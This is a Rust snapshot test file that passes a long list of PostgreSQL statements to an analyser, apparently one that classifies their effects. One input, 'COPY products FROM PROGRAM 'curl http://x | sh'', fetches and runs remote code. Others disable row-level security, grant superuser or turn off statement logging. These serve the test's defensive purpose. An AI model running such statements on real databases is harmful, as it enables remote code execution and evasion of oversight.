use insta::assert_snapshot;

use crate::tests::all_facts;

#[test]
fn session() {
    assert_snapshot!(all_facts(&[
        "BEGIN",
        "SET search_path = a, b",
        "SET LOCAL row_security = off",
        "SET ROLE x",
        "RESET ROLE",
        "SET SESSION AUTHORIZATION x",
        "SET TIME ZONE 'UTC'",
        "SET TRANSACTION ISOLATION LEVEL SERIALIZABLE",
        "SET SESSION CHARACTERISTICS AS TRANSACTION READ ONLY",
        "RESET ALL",
        "DISCARD ALL",
        "DISCARD TEMP",
        "SHOW search_path",
        "PREPARE p AS DELETE FROM products",
        "EXECUTE p(app.add(1))",
        "DEALLOCATE ALL",
        "DECLARE c CURSOR FOR SELECT * FROM products",
        "FETCH 5 FROM c",
        "MOVE c",
        "CLOSE c",
        "LISTEN x",
        "NOTIFY x, 'y'",
        "PREPARE TRANSACTION 'x'",
        "COMMIT PREPARED 'x'",
        "SAVEPOINT s",
        "ROLLBACK TO s",
        "COMMIT AND CHAIN",
        "SET CONSTRAINTS ALL DEFERRED",
    ]));
}

#[test]
fn copy_and_explain() {
    assert_snapshot!(all_facts(&[
        "EXPLAIN DELETE FROM products",
        "EXPLAIN ANALYZE DELETE FROM products",
        "EXPLAIN (ANALYZE false) DELETE FROM products",
        "EXPLAIN SELECT app.purge()",
        "COPY products TO STDOUT",
        "COPY products (id, name) FROM STDIN",
        "COPY orders FROM STDIN",
        "COPY products TO '/tmp/x'",
        "COPY products FROM PROGRAM 'curl http://x | sh'",
        "COPY (DELETE FROM products RETURNING *) TO STDOUT",
    ]));
}

#[test]
fn maintenance() {
    assert_snapshot!(all_facts(&[
        "TRUNCATE customers CASCADE",
        "TRUNCATE products, orders",
        "LOCK TABLE products IN ACCESS EXCLUSIVE MODE",
        "LOCK TABLE products IN ACCESS SHARE MODE",
        "VACUUM FULL products",
        "VACUUM",
        "ANALYZE products",
        "REINDEX TABLE products",
        "REINDEX INDEX CONCURRENTLY products_pkey",
        "CLUSTER products USING products_pkey",
        "REFRESH MATERIALIZED VIEW totals",
        "REFRESH MATERIALIZED VIEW CONCURRENTLY totals",
        "CHECKPOINT",
    ]));
}

#[test]
fn relations_made() {
    assert_snapshot!(all_facts(&[
        "CREATE TABLE t (id serial PRIMARY KEY, c integer REFERENCES customers, v text DEFAULT app.is_email('x'), CHECK (length(v) > app.add(1)))",
        "CREATE TEMP TABLE t AS SELECT * FROM secrets",
        "CREATE TABLE t (LIKE customers INCLUDING ALL)",
        "CREATE TABLE e3 PARTITION OF events FOR VALUES FROM ('2027-01-01') TO ('2028-01-01')",
        "CREATE TABLE app.t AS SELECT id FROM customers",
        "SELECT * INTO t FROM customers",
        "CREATE VIEW v AS SELECT * FROM secrets",
        "CREATE OR REPLACE VIEW rich AS SELECT 1",
        "CREATE INDEX i ON customers (lower(name))",
        "CREATE INDEX CONCURRENTLY i ON customers (app.is_email(name))",
        "CREATE SEQUENCE s",
        "ALTER SEQUENCE orders_id_seq RESTART",
        "CREATE MATERIALIZED VIEW m AS SELECT * FROM customers",
        "CREATE TABLESPACE t LOCATION '/x'",
        "CREATE TEMP TABLE t (a int)",
        "CREATE TEMP VIEW v AS SELECT 1",
        "CREATE UNLOGGED TABLE t (a int)",
        "CREATE TABLE IF NOT EXISTS products (id int)",
        "CREATE TEMP TABLE t (a int); DROP TABLE t",
        "CREATE TEMP TABLE t (a int); INSERT INTO t VALUES (1); DELETE FROM t",
        "SELECT * INTO TEMP tt FROM customers",
    ]));
}

#[test]
fn code_made() {
    assert_snapshot!(all_facts(&[
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
        "CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS 'x'",
        "CREATE FUNCTION f() RETURNS int LANGUAGE sql SECURITY DEFINER AS 'SELECT 1'",
        "CREATE OR REPLACE FUNCTION app.purge() RETURNS void LANGUAGE sql AS 'SELECT 1'",
        "CREATE TRIGGER t BEFORE INSERT ON customers FOR EACH ROW EXECUTE FUNCTION app.log_change()",
        "CREATE RULE r AS ON INSERT TO products DO ALSO DELETE FROM customers",
        "CREATE POLICY p ON customers USING (true)",
        "CREATE OPERATOR === (LEFTARG = int, RIGHTARG = int, FUNCTION = int4eq)",
        "CREATE CAST (text AS int) WITH FUNCTION app.purge()",
        "CREATE AGGREGATE a(text) (SFUNC = textcat, STYPE = text)",
        "CREATE LANGUAGE plpython3u",
        "CREATE ACCESS METHOD a TYPE TABLE HANDLER h",
        "CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION app.log_change()",
        "CREATE CONVERSION c FOR 'UTF8' TO 'LATIN1' FROM f",
        "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN NULL; END $$",
        "CALL app.purge()",
    ]));
}

#[test]
fn types_made() {
    assert_snapshot!(all_facts(&[
        "CREATE TYPE t AS ENUM ('a')",
        "CREATE TYPE t AS (a int, b text)",
        "CREATE TYPE t AS RANGE (subtype = int)",
        "CREATE TYPE t (INPUT = f, OUTPUT = g)",
        "CREATE DOMAIN d AS text CHECK (app.is_email(VALUE))",
        r#"CREATE COLLATION c FROM "C""#,
        "CREATE STATISTICS s ON name, price FROM products",
        "CREATE TEXT SEARCH CONFIGURATION c (COPY = english)",
    ]));
}

#[test]
fn rights() {
    assert_snapshot!(all_facts(&[
        "GRANT SELECT ON customers TO x",
        "GRANT admin TO x",
        "GRANT ALL ON ALL TABLES IN SCHEMA app TO x",
        "REVOKE ALL ON customers FROM PUBLIC",
        "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO x",
        "CREATE ROLE x SUPERUSER PASSWORD 'secret'",
        "ALTER ROLE x SET search_path = a",
        "DROP ROLE x",
        "ALTER ROLE x WITH SUPERUSER",
        "ALTER USER x PASSWORD 'secret'",
        "ALTER GROUP g ADD USER x",
        "ALTER LARGE OBJECT 5 OWNER TO x",
        "CREATE USER x",
        "REASSIGN OWNED BY a TO b",
        "DROP OWNED BY a",
        "SECURITY LABEL ON TABLE customers IS 'x'",
    ]));
}

#[test]
fn server() {
    assert_snapshot!(all_facts(&[
        "CREATE EXTENSION dblink",
        "CREATE SERVER s FOREIGN DATA WRAPPER w",
        "CREATE USER MAPPING FOR x SERVER s OPTIONS (password 'secret')",
        "ALTER SYSTEM SET log_statement = 'none'",
        "ALTER DATABASE d SET x = 1",
        "CREATE DATABASE d",
        "DROP DATABASE d",
        "COMMENT ON TABLE customers IS 'x'",
        "LOAD 'x'",
        "CREATE PUBLICATION p FOR ALL TABLES",
        "CREATE SUBSCRIPTION s CONNECTION 'host=x password=secret' PUBLICATION p",
        "CREATE SCHEMA s CREATE TABLE t (id int) CREATE VIEW v AS SELECT * FROM t",
        "ALTER EXTENSION citext UPDATE",
        "CREATE FOREIGN TABLE f (a int) SERVER s",
        "IMPORT FOREIGN SCHEMA a FROM SERVER s INTO app",
        "CREATE TABLESPACE t LOCATION '/x'",
    ]));
}

#[test]
fn tables_altered() {
    assert_snapshot!(all_facts(&[
        "ALTER TABLE products ADD COLUMN x int",
        "ALTER TABLE products ADD COLUMN x int DEFAULT 5",
        "ALTER TABLE products ADD COLUMN x timestamptz DEFAULT now() NOT NULL",
        "ALTER TABLE products ADD COLUMN x uuid DEFAULT gen_random_uuid()",
        "ALTER TABLE products ADD COLUMN x serial",
        "ALTER TABLE products ADD COLUMN x int GENERATED ALWAYS AS IDENTITY",
        "ALTER TABLE products ADD COLUMN x int GENERATED ALWAYS AS (id * 2) STORED",
        "ALTER TABLE products ADD COLUMN x int REFERENCES customers",
        "ALTER TABLE products ADD COLUMN x positive",
        "ALTER TABLE products ADD COLUMN x int UNIQUE",
        "ALTER TABLE products DROP COLUMN name",
        "ALTER TABLE products DROP COLUMN name CASCADE",
        "ALTER TABLE products ALTER COLUMN name SET DEFAULT 'x'",
        "ALTER TABLE products ALTER COLUMN name DROP DEFAULT",
        "ALTER TABLE products ALTER COLUMN name SET NOT NULL",
        "ALTER TABLE products ALTER COLUMN name DROP NOT NULL",
        "ALTER TABLE products ALTER COLUMN name TYPE varchar(10)",
        "ALTER TABLE products ALTER COLUMN name TYPE varchar",
        "ALTER TABLE products ALTER COLUMN id TYPE bigint",
        "ALTER TABLE products ALTER COLUMN name TYPE int USING app.add(1)",
        "ALTER TABLE products ADD CONSTRAINT c CHECK (price > 0)",
        "ALTER TABLE products ADD CONSTRAINT c CHECK (price > 0) NOT VALID",
        "ALTER TABLE products VALIDATE CONSTRAINT c",
        "ALTER TABLE products DROP CONSTRAINT products_pkey",
        "ALTER TABLE products ADD CONSTRAINT c UNIQUE USING INDEX i",
        "ALTER TABLE products ADD FOREIGN KEY (owner_id) REFERENCES customers NOT VALID",
        "ALTER TABLE products DISABLE TRIGGER ALL",
        "ALTER TABLE orders DISABLE TRIGGER orders_log",
        "ALTER TABLE orders ENABLE REPLICA TRIGGER orders_log",
        "ALTER TABLE secrets DISABLE ROW LEVEL SECURITY",
        "ALTER TABLE secrets NO FORCE ROW LEVEL SECURITY",
        "ALTER TABLE secrets ENABLE ROW LEVEL SECURITY",
        "ALTER TABLE products OWNER TO x",
        "ALTER TABLE products SET TABLESPACE t",
        "ALTER TABLE products SET LOGGED",
        "ALTER TABLE products SET UNLOGGED",
        "ALTER TABLE products SET (fillfactor = 70)",
        "ALTER VIEW rich SET (security_barrier = false)",
        "ALTER TABLE products SET SCHEMA app",
        "ALTER TABLE products RENAME TO p2",
        "ALTER TABLE products RENAME COLUMN name TO n",
        "ALTER TABLE events DETACH PARTITION events_2025",
        "ALTER TABLE events ATTACH PARTITION products FOR VALUES FROM ('2028-01-01') TO ('2029-01-01')",
        "ALTER TABLE employees NO INHERIT people",
        "ALTER TABLE products REPLICA IDENTITY FULL",
        "ALTER TABLE products CLUSTER ON products_pkey",
        "ALTER TABLE IF EXISTS nothere ADD COLUMN x int",
        "ALTER TABLE ALL IN TABLESPACE a SET TABLESPACE b",
        "ALTER INDEX products_pkey RENAME TO i",
        "ALTER SEQUENCE orders_id_seq OWNED BY NONE",
    ]));
}

#[test]
fn other_objects_altered() {
    assert_snapshot!(all_facts(&[
        "ALTER TYPE order_state ADD VALUE 'x'",
        "ALTER TYPE address ADD ATTRIBUTE zip text",
        "ALTER TYPE address DROP ATTRIBUTE city",
        "ALTER DOMAIN positive DROP CONSTRAINT positive_check",
        "ALTER FUNCTION app.purge() SECURITY DEFINER",
        "ALTER FUNCTION app.purge() STABLE",
        "ALTER FUNCTION app.purge() OWNER TO x",
        "ALTER FUNCTION app.purge() SET SCHEMA public",
        "ALTER POLICY own ON secrets USING (true)",
        "ALTER EVENT TRIGGER e DISABLE",
    ]));
}

#[test]
fn dropped() {
    assert_snapshot!(all_facts(&[
        "DROP TABLE products",
        "DROP TABLE IF EXISTS products, orders CASCADE",
        "DROP TABLE nothere",
        "DROP VIEW rich",
        "DROP SCHEMA app CASCADE",
        "DROP FUNCTION app.purge()",
        "DROP FUNCTION app.purge",
        "DROP TYPE order_state",
        "DROP DOMAIN positive",
        "DROP TRIGGER orders_log ON orders",
        "DROP RULE ruled_delete ON ruled",
        "DROP POLICY own ON secrets",
        "DROP INDEX products_pkey",
        "DROP INDEX CONCURRENTLY products_pkey",
        "DROP SEQUENCE orders_id_seq",
        "DROP EXTENSION citext",
        "DROP OPERATOR === (address, address)",
        "DROP CAST (text AS int)",
        "DROP SERVER s",
        "DROP PUBLICATION p",
        "DROP TABLESPACE t",
        "DROP USER MAPPING FOR x SERVER s",
        "DROP OWNED BY x",
        "DROP AGGREGATE app.concat_all(text)",
        "DROP TABLE pg_temp.t",
    ]));
}
